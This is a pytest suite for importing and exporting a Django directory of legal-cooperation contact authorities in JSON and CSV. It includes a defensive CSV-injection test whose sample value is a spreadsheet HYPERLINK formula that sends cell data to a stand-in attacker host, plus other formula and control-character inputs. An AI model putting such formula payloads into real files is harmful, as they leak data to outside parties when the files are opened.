import json
from pathlib import Path

import pytest
from django.conf import settings

from contact_points.directory_io import (
    DirectoryImportError,
    directory_export_csv,
    directory_export_json,
    directory_import,
)
from contact_points.models import Authority, ContactPerson, Country
from contact_points.services import authority_set_public_key
from tests.support.factories import AuthorityFactory, ContactPersonFactory, CountryFactory

pytestmark = pytest.mark.django_db

DEMO_FILE = Path(settings.BASE_DIR) / "fixtures" / "demo_directory.json"


def _minimal_document(**authority_overrides):
    authority = {
        "identifier": "ro-247",
        "name": "Romanian 24/7 point",
        "country": "RO",
        "kind": "point_24_7",
        "time_zone": "Europe/Bucharest",
        "available_24_7": True,
        "languages": ["en", "ro"],
        "instruments": ["preservation"],
        **authority_overrides,
    }
    return {
        "format": "mla-directory",
        "version": 1,
        "countries": [
            {
                "code": "RO",
                "name": "Romania",
                "eio_bound": True,
                "budapest_party": True,
                "budapest_second_protocol_party": False,
                "accepted_languages": {"eio": ["en", "ro"]},
            }
        ],
        "authorities": [authority],
    }


def _import_json(document):
    return directory_import(data=json.dumps(document).encode(), fmt="json")


def test_demo_directory_round_trips_exactly():
    original = DEMO_FILE.read_text(encoding="utf-8")

    report = directory_import(data=original.encode(), fmt="json")

    assert report.created == Authority.objects.count() > 40
    assert Country.objects.count() >= 10
    assert directory_export_json() == original


def test_round_trip_carries_keys_contacts_parents_and_languages(openpgp_keys):
    central = AuthorityFactory(identifier="ro-central", kind="central_authority", languages=["ro"])
    point = AuthorityFactory(
        identifier="ro-247",
        parent=central,
        kind="point_24_7",
        available_24_7=True,
        languages=["en", "ro"],
        instruments=["preservation", "mla"],
    )
    authority_set_public_key(authority=point, armored=openpgp_keys.valid)
    contact = ContactPersonFactory(authority=point, name="Ioana Pop")
    contact.languages.set(["en"])
    first_export = directory_export_json()

    Authority.objects.filter(parent__isnull=False).delete()
    Authority.objects.all().delete()
    Country.objects.all().delete()
    directory_import(data=first_export.encode(), fmt="json")

    assert directory_export_json() == first_export
    restored = Authority.objects.get(identifier="ro-247")
    assert restored.parent.identifier == "ro-central"
    assert restored.key_fingerprint == openpgp_keys.valid_fingerprint
    assert restored.contacts.get().name == "Ioana Pop"


def test_importing_the_same_file_twice_changes_nothing():
    document = _minimal_document()
    first = _import_json(document)
    history_rows = Authority.history.count()

    second = _import_json(document)

    assert (first.created, first.updated) == (1, 0)
    assert (second.created, second.updated, second.unchanged) == (0, 0, 1)
    assert Authority.history.count() == history_rows


def test_import_updates_an_entry_matched_by_identifier_and_records_history():
    _import_json(_minimal_document())

    report = _import_json(_minimal_document(name="Romanian 24/7 point (renamed)"))

    assert report.updated == 1
    authority = Authority.objects.get(identifier="ro-247")
    assert authority.name == "Romanian 24/7 point (renamed)"
    assert authority.history.count() == 2
    assert authority.history.first().history_change_reason == "import"


def test_an_import_with_bad_rows_reports_each_and_writes_nothing():
    document = _minimal_document()
    document["authorities"].append(
        {
            "identifier": "ro-bad",
            "name": "Bad entry",
            "country": "ZZ",
            "kind": "wizard",
            "time_zone": "Mars/Olympus",
            "phone": "12",
            "languages": ["xx"],
            "instruments": ["teleport"],
            "parent": "nobody",
        }
    )

    with pytest.raises(DirectoryImportError) as caught:
        _import_json(document)

    problems = "\n".join(str(p) for p in caught.value.problems)
    assert "authorities[1] (ro-bad)" in problems
    for expected in (
        "country: “ZZ” is not in the directory",
        "kind:",
        "Mars/Olympus",
        "phone",
        "unknown language code “xx”",
        "unknown instrument “teleport”",
        "parent: no authority “nobody”",
    ):
        assert expected in problems
    assert not Authority.objects.exists()
    assert not Country.objects.exists()


def test_parent_loops_are_refused():
    document = _minimal_document(parent="ro-central")
    document["authorities"].append(
        {
            "identifier": "ro-central",
            "name": "Central",
            "country": "RO",
            "kind": "central_authority",
            "time_zone": "Europe/Bucharest",
            "parent": "ro-247",
        }
    )

    with pytest.raises(DirectoryImportError, match="loop"):
        _import_json(document)


def test_duplicate_identifiers_are_refused():
    document = _minimal_document()
    document["authorities"].append(dict(document["authorities"][0]))

    with pytest.raises(DirectoryImportError, match="already used at authorities\\[0\\]"):
        _import_json(document)


def test_a_key_that_does_not_match_its_stated_fingerprint_is_refused(openpgp_keys):
    document = _minimal_document(public_key=openpgp_keys.valid, key_fingerprint="A" * 40)

    with pytest.raises(DirectoryImportError, match="does not match the key"):
        _import_json(document)


def test_an_imported_secret_key_is_refused(openpgp_keys):
    with pytest.raises(DirectoryImportError, match="secret key"):
        _import_json(_minimal_document(public_key=openpgp_keys.secret))


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"{not json", "line 1: not valid JSON"),
        (b'{"format": "other"}', "not a directory export"),
        (b'{"format": "mla-directory", "version": 99}', "unsupported version 99"),
        (b"\xff\xfe\x00", "not UTF-8"),
    ],
)
def test_unreadable_json_files_are_refused_clearly(data, message):
    with pytest.raises(DirectoryImportError, match=message):
        directory_import(data=data, fmt="json")


CSV_HEADER = "identifier,country,name,kind,time_zone,languages,instruments,available_24_7\n"


def test_csv_import_reports_every_bad_row_by_line_and_writes_nothing():
    CountryFactory(code="RO", name="Romania")
    content = (
        CSV_HEADER
        + "ro-ok,RO,Good entry,prosecutor,Europe/Bucharest,ro; en,mla,no\n"
        + "ro-bad-zone,RO,Bad zone,prosecutor,Europe/Nowhere,ro,mla,no\n"
        + "ro-bad-flag,RO,Bad flag,point_24_7,Europe/Bucharest,ro,preservation,maybe\n"
        + ",RO,No identifier,court,Europe/Bucharest,ro,mla,no\n"
    )

    with pytest.raises(DirectoryImportError) as caught:
        directory_import(data=content.encode(), fmt="csv")

    problems = [str(problem) for problem in caught.value.problems]
    assert any(p.startswith("line 3:") and "Europe/Nowhere" in p for p in problems)
    assert any(p.startswith("line 4:") and "“maybe” is not yes or no" in p for p in problems)
    assert any(p.startswith("line 5:") and "identifier: required" in p for p in problems)
    assert not any(p.startswith("line 2:") for p in problems)
    assert not Authority.objects.exists()


def test_csv_import_creates_then_updates_without_touching_keys_or_contacts(openpgp_keys):
    CountryFactory(code="RO", name="Romania")
    directory_import(
        data=(
            CSV_HEADER + "ro-ok,RO,Good entry,prosecutor,Europe/Bucharest,ro; en,mla,no\n"
        ).encode(),
        fmt="csv",
    )
    authority = Authority.objects.get(identifier="ro-ok")
    authority_set_public_key(authority=authority, armored=openpgp_keys.valid)
    ContactPersonFactory(authority=authority)

    report = directory_import(
        data=(
            CSV_HEADER + "ro-ok,RO,Renamed,prosecutor,Europe/Bucharest,ro,mla;eio,yes\n"
        ).encode(),
        fmt="csv",
    )

    assert report.updated == 1
    authority.refresh_from_db()
    assert authority.name == "Renamed"
    assert authority.available_24_7 is True
    assert authority.instrument_codes == ["eio", "mla"]
    assert [language.code for language in authority.languages.all()] == ["ro"]
    assert authority.key_fingerprint == openpgp_keys.valid_fingerprint
    assert ContactPerson.objects.filter(authority=authority).count() == 1


def test_csv_export_then_import_is_unchanged():
    AuthorityFactory(
        identifier="ro-a",
        languages=["ro"],
        instruments=["mla"],
        postal_address="Str. Exemplu 1,\nBucharest",
        phone="+40211234567",
    )
    exported = directory_export_csv()

    report = directory_import(data=exported.encode(), fmt="csv")

    assert (report.created, report.updated, report.unchanged) == (0, 0, 1)


def test_csv_export_neutralises_formulas_in_every_text_cell_and_reads_them_back():
    import csv
    import io

    AuthorityFactory(
        identifier="ro-formula",
        name='=HYPERLINK("https://evil.example/?"&A1,"Click")',
        postal_address="@SUM(1+1)",
        email="-2+3@example.org",
        phone="+40211234567",
        languages=["ro"],
        instruments=["mla"],
    )
    exported = directory_export_csv()
    row = next(r for r in csv.DictReader(io.StringIO(exported)) if r["identifier"] == "ro-formula")

    assert row["name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'
    assert row["postal_address"] == "'@SUM(1+1)"
    assert row["phone"] == "'+40211234567"
    assert not any(
        cell.startswith(("=", "+", "-", "@"))
        for r in csv.reader(io.StringIO(exported))
        for cell in r
    )
    report = directory_import(data=exported.encode(), fmt="csv")
    assert (report.created, report.updated, report.unchanged) == (0, 0, 1)


def test_csv_with_unknown_columns_is_refused():
    with pytest.raises(DirectoryImportError, match="unknown columns: colour"):
        directory_import(data=b"identifier,country,name,kind,colour\n", fmt="csv")


def test_csv_fingerprint_column_is_read_only(openpgp_keys):
    authority = AuthorityFactory(identifier="ro-a")
    authority_set_public_key(authority=authority, armored=openpgp_keys.valid)
    rows = directory_export_csv().replace(openpgp_keys.valid_fingerprint, "B" * 40)

    with pytest.raises(DirectoryImportError, match="key_fingerprint: read-only"):
        directory_import(data=rows.encode(), fmt="csv")


# Reference codes: an authority's code travels in the directory, so that every node checks
# a partner's references against the same code.
def test_the_export_carries_each_authoritys_reference_code():
    AuthorityFactory(identifier="ro-diicot", reference_code="DIICOT1")

    exported = json.loads(directory_export_json())
    csv_text = directory_export_csv()

    assert exported["authorities"][0]["reference_code"] == "DIICOT1"
    assert csv_text.splitlines()[0].startswith("identifier,reference_code,")
    assert ",DIICOT1," in csv_text.splitlines()[1]


def test_an_imported_code_is_kept_and_an_entry_without_one_gets_one_derived():
    _import_json(_minimal_document(reference_code="rop247"))
    assert Authority.objects.get().reference_code == "ROP247"

    document = _minimal_document(identifier="ro-bucharest-court")
    report = _import_json(document)

    assert report.created == 1
    assert Authority.objects.get(identifier="ro-bucharest-court").reference_code == ("BUCHARESTCOU")
    # Imported again without a code, the entry keeps the one it holds: nothing changes.
    assert _import_json(document).unchanged == 1


def test_a_code_another_entry_holds_is_refused():
    AuthorityFactory(identifier="ro-other", reference_code="TAKEN")

    with pytest.raises(DirectoryImportError, match="“TAKEN” is already the code of ro-other"):
        _import_json(_minimal_document(reference_code="TAKEN"))


def test_a_code_not_of_the_pattern_is_refused():
    with pytest.raises(DirectoryImportError, match="2 to 12 capital letters or digits"):
        _import_json(_minimal_document(reference_code="A-B"))


def test_an_import_refuses_control_characters_and_line_breaks_with_their_row():
    document = _minimal_document(
        name="Romanian\x00 24/7 point",
        postal_address="Str. Justiției 1\nBucharest",
        contacts=[{"name": "Ana\nPopescu", "function": "Prosecutor\x1b[31m"}],
    )

    with pytest.raises(DirectoryImportError) as caught:
        _import_json(document)

    problems = [str(problem) for problem in caught.value.problems]
    assert problems == [
        "authorities[0] (ro-247): name: This text holds an invisible control character "
        "(U+0000) that cannot be stored; remove it (it often comes with a copy from another "
        "program).",
        "authorities[0] (ro-247).contacts[0]: name: This is a one-line field: remove the line "
        "breaks.",
        "authorities[0] (ro-247).contacts[0]: function: This text holds an invisible control "
        "character (U+001B) that cannot be stored; remove it (it often comes with a copy from "
        "another program).",
    ]
    assert not Authority.objects.exists()


def test_a_csv_row_with_a_nul_is_refused_by_its_line():
    CountryFactory(code="RO", name="Romania")
    content = CSV_HEADER + "ro-nul,RO,Bad\x00 name,prosecutor,Europe/Bucharest,ro,mla,no\n"

    with pytest.raises(DirectoryImportError) as caught:
        directory_import(data=content.encode(), fmt="csv")

    problems = [str(problem) for problem in caught.value.problems]
    assert any(p.startswith("line 2: name:") and "U+0000" in p for p in problems)
    assert not Authority.objects.exists()


# --- e-Evidence: the countries' flag and the service providers' fields ---------------------

PROVIDER = {
    "identifier": "nl-example-hosting",
    "name": "Example Hosting B.V., designated establishment",
    "country": "NL",
    "kind": "service_provider",
    "time_zone": "Europe/Amsterdam",
    "available_24_7": True,
    "languages": ["en", "nl"],
    "instruments": ["epoc", "epoc_pr"],
    "provider_name": "Example Hosting B.V.",
    "provider_services": ["information_society", "domain_name_ip_numbering"],
    "provider_designation": "designated_establishment",
    "emergency_phone": "+31 70 000 0031",
    "emergency_email": "emergency@example-hosting.example",
}


def _provider_document(*, country_flags=None, **provider_overrides):
    return {
        "format": "mla-directory",
        "version": 1,
        "countries": [
            {
                "code": "NL",
                "name": "Netherlands",
                "eio_bound": True,
                "budapest_party": True,
                **({"eevidence_bound": True} if country_flags is None else country_flags),
                "accepted_languages": {"epoc": ["en", "nl"]},
            }
        ],
        "authorities": [{**PROVIDER, **provider_overrides}],
    }


def test_a_service_provider_and_the_countrys_flag_round_trip():
    _import_json(_provider_document())
    first = directory_export_json()

    provider = Authority.objects.get(identifier="nl-example-hosting")
    assert provider.provider_name == "Example Hosting B.V."
    assert provider.provider_services == ["domain_name_ip_numbering", "information_society"]
    assert provider.emergency_phone == "+31700000031"
    exported = json.loads(first)
    assert exported["countries"][0]["eevidence_bound"] is True
    record = exported["authorities"][0]
    assert record["provider_designation"] == "designated_establishment"
    assert record["emergency_email"] == "emergency@example-hosting.example"

    Authority.objects.all().delete()
    Country.objects.all().delete()
    directory_import(data=first.encode(), fmt="json")
    assert directory_export_json() == first
    # And as CSV, the provider's columns read back unchanged.
    csv_text = directory_export_csv()
    report = directory_import(data=csv_text.encode(), fmt="csv")
    assert (report.updated, report.unchanged) == (0, 1)


def test_a_file_from_before_the_e_evidence_fields_still_imports():
    CountryFactory(code="DK", name="Denmark", eevidence_bound=False)
    document = _minimal_document()
    document["countries"].append({"code": "DK", "name": "Denmark", "eio_bound": False})

    report = _import_json(document)

    assert report.created == 1
    authority = Authority.objects.get(identifier="ro-247")
    assert (authority.provider_name, authority.provider_services) == ("", [])
    assert not authority.eevidence_central_authority
    # Without the flag, a new country starts from the reference data; one in the directory
    # keeps what it has.
    assert Country.objects.get(code="RO").eevidence_bound
    assert not Country.objects.get(code="DK").eevidence_bound


def test_a_file_without_the_flag_leaves_a_countrys_flag_as_it_is():
    CountryFactory(code="RO", name="Romania", eevidence_bound=False)

    _import_json(_minimal_document())

    assert not Country.objects.get(code="RO").eevidence_bound


def test_a_service_provider_lacking_its_fields_is_refused_with_each_problem():
    document = _provider_document(
        provider_name="", provider_services=[], emergency_phone="", emergency_email=""
    )

    with pytest.raises(DirectoryImportError) as caught:
        _import_json(document)

    problems = "\n".join(caught.value.extra["problems"])
    for name in ("provider_name", "provider_services", "emergency_phone", "emergency_email"):
        assert f"(nl-example-hosting): {name}:" in problems
    assert not Authority.objects.exists()


def test_a_service_provider_in_a_country_outside_the_regulation_cannot_receive_orders():
    document = _provider_document(country_flags={"eevidence_bound": False})

    with pytest.raises(DirectoryImportError, match="does not take part in the e-Evidence"):
        _import_json(document)

    assert not Authority.objects.exists()


def test_only_a_service_provider_receives_production_orders_in_a_file():
    document = _minimal_document(instruments=["preservation", "epoc"])

    with pytest.raises(DirectoryImportError, match="only an entry of kind"):
        _import_json(document)


def test_provider_fields_on_another_kind_are_refused():
    document = _minimal_document(provider_name="Example Mail Ltd")

    with pytest.raises(DirectoryImportError, match="provider_name: Only an entry of kind"):
        _import_json(document)
